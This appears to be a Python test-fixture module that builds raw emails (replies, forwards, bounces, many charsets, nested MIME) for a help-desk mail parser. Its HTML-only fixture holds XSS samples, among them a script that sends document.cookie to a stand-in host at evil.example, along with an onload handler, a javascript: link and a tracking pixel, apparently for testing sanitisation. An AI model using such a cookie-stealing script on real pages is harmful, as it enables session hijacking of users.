"""Inbound emails shaped like what real clients and mail servers send, built in code.

Each function returns the raw bytes (CRLF line ends, as they arrive over SMTP) that a
mail server would pipe into the help desk. Structured messages are built with
`EmailMessage`; the ones whose exact bytes matter (charsets, bounces, client quirks)
are written out literally.
"""

from __future__ import annotations

from email import policy
from email.message import EmailMessage

DESK = "help@desk.example.com"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(range(64))
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"


def wire(msg: EmailMessage) -> bytes:
    return msg.as_bytes(policy=policy.SMTP)


def crlf(text: str, charset: str = "ascii") -> bytes:
    """A literal message, its lines ended CRLF; non-ASCII text sent as raw 8-bit bytes."""
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode(charset)


def message(body: str = "Hello, the printer is broken.\n", *, subject: str = "Printer broken",
            sender: str = "Jane Doe <jane@example.com>", **headers: str) -> EmailMessage:
    """A plain text message; extra headers by keyword, underscores standing for dashes."""
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = f"Help Desk <{DESK}>"
    msg["Subject"] = subject
    msg["Date"] = "Tue, 05 Mar 2024 09:15:00 +0100"
    msg["Message-ID"] = "<CAF=abc123@mail.gmail.com>"
    for name, value in headers.items():
        del msg[name.replace("_", "-")]
        msg[name.replace("_", "-")] = value
    msg.set_content(body)
    return msg


def plain_text() -> bytes:
    msg = message(
        "Hello,\n\nthe printer on floor 3 shows error E42 since this morning.\n\nThanks,\nJane\n",
        subject="Printer on floor 3 shows E42",
        sender='"Doe, Jane" <Jane.Doe@Example.COM>',
        Cc="Boss <Boss@Example.com>, colleague@example.com",
        Reply_To="jane.private@example.org",
    )
    return wire(msg)


def html_only() -> bytes:
    return crlf("""From: Jane <jane@example.com>
To: help@desk.example.com
Subject: Cannot log in
Message-ID: <html-only@example.com>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><title>ignored title</title><style>p { color: red }</style>
<script>alert('head')</script></head>
<body onload="steal()">
<p>Hello&nbsp;team,</p><p>I cannot log in &amp; the page says <b>&quot;expired&quot;</b>.</p>
<ul><li>Browser: Firefox</li><li>Since: Monday</li></ul>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p><a href="javascript:alert(1)">click me</a> or <a href="https://status.example.com/">status</a>
<img src="http://tracker.example/pixel.gif"><img src="https://cdn.example.com/logo.png" onerror="x()">
</p><div>Regards,<br>Jane</div>
</body></html>
""")


def alternative_with_images() -> bytes:
    """Thunderbird/Apple shape: mixed(alternative(plain, related(html, png)), pdf)."""
    msg = message("See the screenshot, and the report attached.\n", subject="Screenshot of the error")
    msg.add_alternative(
        '<p>See the <b>screenshot</b>:</p><img src="cid:shot@example.com" alt="screenshot">'
        "<p>and the report attached.</p>",
        subtype="html",
    )
    html_part = msg.get_body(preferencelist=("html",))
    assert isinstance(html_part, EmailMessage)
    html_part.add_related(PNG, "image", "png", cid="<shot@example.com>")
    msg.add_attachment(PDF, "application", "pdf", filename="report.pdf")
    return wire(msg)


def forwarded_inline_gmail() -> bytes:
    return wire(message(
        "Can you check this invoice? It looks wrong to me.\n\n"
        "---------- Forwarded message ---------\n"
        "From: Billing <billing@vendor.example>\n"
        "Date: Mon, Mar 4, 2024 at 4:12 PM\n"
        "Subject: Invoice 4711\n"
        "To: <jane@example.com>\n\n"
        "Please pay 1,000 EUR for invoice 4711 by Friday.\n\n"
        "> earlier quoted text inside the forwarded mail\n",
        subject="Fwd: Invoice 4711",
    ))


def forwarded_inline_outlook() -> bytes:
    return wire(message(
        "FYI - the vendor says our licence expired.\n\n"
        "-----Original Message-----\n"
        "From: Licensing <licensing@vendor.example>\n"
        "Sent: Monday, March 4, 2024 4:12 PM\n"
        "To: Jane Doe <jane@example.com>\n"
        "Subject: Licence expired\n\n"
        "Your licence LIC-99 expired on March 1.\n",
        subject="FW: Licence expired",
    ))


def forwarded_as_attachment() -> bytes:
    inner = message("Your account will be closed unless you click here.\n",
                    subject="Urgent: account closure", sender="Scammer <scam@phish.example>",
                    Message_ID="<inner-1@phish.example>")
    msg = message("Is this phishing? Forwarding it as an attachment.\n", subject="Fwd: Urgent: account closure")
    msg.add_attachment(inner)
    return wire(msg)


def gmail_reply() -> bytes:
    return wire(message(
        "Thanks, restarting the spooler fixed it!\n\n"
        "On Tue, Mar 5, 2024 at 10:02 AM Help Desk <help@desk.example.com>\n"
        "wrote:\n\n"
        "> Please restart the print spooler and try again.\n"
        ">\n"
        "> On Tue, Mar 5, 2024 at 9:15 AM Jane Doe <jane@example.com> wrote:\n"
        ">> the printer on floor 3 shows error E42\n",
        subject="Re: [#12345678] Printer on floor 3 shows E42",
        In_Reply_To="<reply-1@desk.example.com>",
        References="<CAF=first@mail.gmail.com> <reply-1@desk.example.com>",
    ))


def interleaved_reply() -> bytes:
    return wire(message(
        "On Tue, Mar 5, 2024 at 10:02 AM Help Desk <help@desk.example.com> wrote:\n"
        "> Which model is it?\n"
        "The HP LaserJet 4000.\n"
        "> And which floor?\n"
        "Floor 3.\n",
        subject="Re: [#12345678] Printer",
    ))


def outlook_reply() -> bytes:
    return wire(message(
        "It works now, thank you.\n\nJane\n\n"
        "-----Original Message-----\n"
        "From: Help Desk <help@desk.example.com>\n"
        "Sent: Tuesday, March 5, 2024 10:02 AM\n"
        "To: Jane Doe <jane@example.com>\n"
        "Subject: [#12345678] VPN\n\n"
        "Please reinstall the VPN client.\n",
        subject="RE: [#12345678] VPN",
    ))


def outlook_reply_header_block(language: str = "en") -> bytes:
    labels = {"en": ("From", "Sent", "To", "Subject", "RE"), "de": ("Von", "Gesendet", "An", "Betreff", "AW")}
    from_, sent, to, subject, prefix = labels[language]
    return wire(message(
        "Done, the new laptop arrived.\n\n"
        "________________________________\n"
        f"{from_}: Help Desk <help@desk.example.com>\n"
        f"{sent}: Tuesday, March 5, 2024 10:02\n"
        f"{to}: Jane Doe <jane@example.com>\n"
        f"{subject}: [#12345678] Laptop\n\n"
        "Your laptop has been shipped.\n",
        subject=f"{prefix}: [#12345678] Laptop",
    ))


def reply_with_marker() -> bytes:
    return wire(message(
        "Yes, please go ahead.\n\n"
        "On Tue, 5 Mar 2024 at 10:02, Help Desk <help@desk.example.com> wrote:\n\n"
        "> ##- Please type your reply above this line -##\n"
        ">\n"
        "> Your request [#12345678] has been updated.\n"
        "> May we reset your password?\n",
        subject="Re: [#12345678] Password",
    ))


def html_gmail_reply() -> bytes:
    msg = message(subject="Re: [#12345678] Printer")
    msg.set_content(
        '<div dir="ltr">Still broken after the restart.</div><br>'
        '<div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Mar 5, 2024 at 10:02 AM '
        'Help Desk &lt;<a href="mailto:help@desk.example.com">help@desk.example.com</a>&gt; wrote:<br></div>'
        '<blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex">'
        "<div>Please restart the print spooler.</div></blockquote></div>",
        subtype="html",
    )
    return wire(msg)


def flowed() -> bytes:
    """Apple Mail shape: format=flowed, soft line breaks end in a space."""
    head = crlf("""From: jane@example.com
To: help@desk.example.com
Subject: Long lines
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8; format=flowed

""")
    lines = ["This paragraph was wrapped by the mail client at seventy-two ", "characters so that it would fit.",
             "", "> quoted and ", "> flowed too", "", "-- ", "Jane"]
    return head + "\r\n".join(lines).encode() + b"\r\n"


def latin1() -> bytes:
    return crlf("""From: =?iso-8859-1?q?J=FCrgen_M=FCller?= <juergen@example.de>
To: help@desk.example.com
Subject: =?iso-8859-1?q?Gr=FC=DFe_aus_K=F6ln?=
MIME-Version: 1.0
Content-Type: text/plain; charset="ISO-8859-1"
Content-Transfer-Encoding: 8bit

Grüße aus Köln, der Drucker ist kaputt.
""", "latin-1")


def windows1252() -> bytes:
    return crlf("""From: jane@example.com
To: help@desk.example.com
Subject: =?windows-1252?Q?=93Quotes=94_cost_=805?=
MIME-Version: 1.0
Content-Type: text/plain; charset=windows-1252
Content-Transfer-Encoding: quoted-printable

The =93new=94 licence costs =8050 =96 too much.
""")


def koi8r() -> bytes:
    subject = "Принтер не работает".encode("koi8-r")
    from base64 import b64encode
    return crlf(f"""From: ivan@example.ru
To: help@desk.example.com
Subject: =?koi8-r?B?{b64encode(subject).decode()}?=
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit

Здравствуйте, принтер не работает.
""", "koi8-r")


def iso2022jp() -> bytes:
    from base64 import b64encode
    subject = b64encode("プリンターの故障".encode("iso-2022-jp")).decode()
    body = "プリンターが動きません。".encode("iso-2022-jp")
    head = crlf(f"""From: taro@example.jp
To: help@desk.example.com
Subject: =?ISO-2022-JP?B?{subject}?=
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit

""")
    return head + body + b"\r\n"


def undeclared_8bit(encoding: str) -> bytes:
    head = crlf("""From: jane@example.com
To: help@desk.example.com
Subject: no charset
MIME-Version: 1.0
Content-Transfer-Encoding: 8bit

""")
    return head + "Café naïve – über".encode(encoding) + b"\r\n"


def unknown_charset() -> bytes:
    head = crlf("""From: jane@example.com
To: help@desk.example.com
Subject: =?x-klingon?q?Qapla=FF?=
MIME-Version: 1.0
Content-Type: text/plain; charset=x-klingon
Content-Transfer-Encoding: 8bit

""")
    return head + b"Hello \xff world\r\n"


def bounce() -> bytes:
    """What Postfix sends back when a reply to a requester cannot be delivered."""
    return crlf("""Return-Path: <>
From: MAILER-DAEMON@mx.example.com (Mail Delivery System)
To: help@desk.example.com
Subject: Undelivered Mail Returned to Sender
Auto-Submitted: auto-replied
Message-Id: <20240305100300.ABC@mx.example.com>
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="ABC.1709629380/mx.example.com"

This is a MIME-encapsulated message.

--ABC.1709629380/mx.example.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mx.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients.

<nobody@example.org>: host mx.example.org said: 550 5.1.1 <nobody@example.org>:
    Recipient address rejected: User unknown

--ABC.1709629380/mx.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mx.example.com
X-Postfix-Queue-ID: ABC
Arrival-Date: Tue,  5 Mar 2024 10:02:59 +0100 (CET)

Final-Recipient: rfc822; Nobody@example.org
Original-Recipient: rfc822;nobody@example.org
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.example.org
Diagnostic-Code: smtp; 550 5.1.1 <nobody@example.org>: Recipient address
    rejected: User unknown

--ABC.1709629380/mx.example.com
Content-Description: Undelivered Message
Content-Type: message/rfc822

From: Help Desk <help@desk.example.com>
To: nobody@example.org
Subject: [#12345678] Your request was received
Message-ID: <ticket-12345678-1@desk.example.com>

Your request was received.

--ABC.1709629380/mx.example.com--
""")


def bounce_headers_only() -> bytes:
    """Exchange shape: the original comes back as text/rfc822-headers only."""
    return crlf("""From: postmaster@outlook.example
To: help@desk.example.com
Subject: Undeliverable: [#12345678] Your request
MIME-Version: 1.0
Content-Type: multipart/report; report-type="delivery-status"; boundary="b1"

--b1
Content-Type: text/plain; charset=us-ascii

Delivery has failed to these recipients or groups: gone@example.org

--b1
Content-Type: message/delivery-status

Reporting-MTA: dns;outlook.example

Final-Recipient: rfc822;gone@example.org
Action: failed
Status: 5.2.1
Diagnostic-Code: smtp;550 5.2.1 mailbox disabled

--b1
Content-Type: text/rfc822-headers

From: help@desk.example.com
To: gone@example.org
Subject: [#12345678] Your request
Message-ID:
 <ticket-12345678-2@desk.example.com>

--b1--
""")


def nested_multiparts(depth: int) -> bytes:
    opening = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i) for i in range(depth))
    closing = b"".join(b"\r\n--b%d--\r\n" % i for i in reversed(range(depth)))
    return (b"From: jane@example.com\r\nSubject: deep\r\nMIME-Version: 1.0\r\n"
            + opening + b"Content-Type: text/plain\r\n\r\ninnermost" + closing)


def many_parts(count: int) -> bytes:
    parts = b"".join(b"--b\r\nContent-Type: text/plain\r\n\r\npart %d\r\n" % i for i in range(count))
    return (b"From: jane@example.com\r\nSubject: wide\r\nMIME-Version: 1.0\r\n"
            b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + parts + b"--b--\r\n")


def with_attachment_headers(*content_disposition: str, content_type: str = "application/octet-stream") -> bytes:
    """One body part plus one attachment per Content-Disposition value given, as raw headers."""
    parts = "".join(
        f"--b\nContent-Type: {content_type}\nContent-Disposition: {disposition}\n"
        "Content-Transfer-Encoding: base64\n\nTVo=\n"
        for disposition in content_disposition
    )
    return crlf(f"""From: jane@example.com
To: help@desk.example.com
Subject: files
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=b

--b
Content-Type: text/plain; charset=utf-8

Files attached.
{parts}--b--
""")


ALL = [
    plain_text, html_only, alternative_with_images, forwarded_inline_gmail, forwarded_inline_outlook,
    forwarded_as_attachment, gmail_reply, interleaved_reply, outlook_reply, outlook_reply_header_block,
    reply_with_marker, html_gmail_reply, flowed, latin1, windows1252, koi8r, iso2022jp, unknown_charset,
    bounce, bounce_headers_only,
]
